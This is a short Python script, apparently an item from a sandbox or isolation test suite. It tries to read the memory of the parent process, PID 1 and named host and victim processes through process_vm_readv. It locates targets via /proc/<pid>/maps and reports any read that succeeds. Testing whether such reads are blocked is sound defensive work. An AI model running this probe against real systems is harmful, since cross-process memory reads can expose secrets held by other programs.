# Attack: reads and writes the memory of other processes by process_vm_readv and writev.
# Kind: processes

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


mine = ctypes.create_string_buffer(16)
here = Span(ctypes.addressof(mine), 16)
there = Span(id(os), 16)  # where a parent that was forked from has the same


def mapped(pid):
    """Where another program has something to read."""
    try:
        return int(open(f"/proc/{pid}/maps").read().split("-")[0], 16)
    except (OSError, ValueError):
        return id(os)


for pid in {os.getppid(), 1, HOST["main"], HOST["victim"]} - {os.getpid()}:
    there.start = mapped(pid)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        through(f"read the memory of {pid}")
